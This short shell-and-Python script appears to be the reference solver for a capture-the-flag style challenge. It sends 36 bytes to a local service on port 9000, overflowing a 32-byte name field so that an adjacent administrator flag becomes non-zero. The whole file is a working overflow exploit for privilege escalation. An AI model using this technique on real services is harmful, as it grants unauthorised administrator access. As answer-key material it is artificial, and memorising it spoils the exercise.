#!/bin/sh
# Reference solver: 32 bytes fill the name, the next 4 make `administrator` non-zero.
python3 - <<'PY'
import socket
connection = socket.create_connection(("127.0.0.1", 9000), timeout=5)
connection.recv(64)
connection.sendall(b"A" * 36)
reply = b""
while True:
    chunk = connection.recv(4096)
    if not chunk:
        break
    reply += chunk
print(reply.decode(errors="replace"))
PY
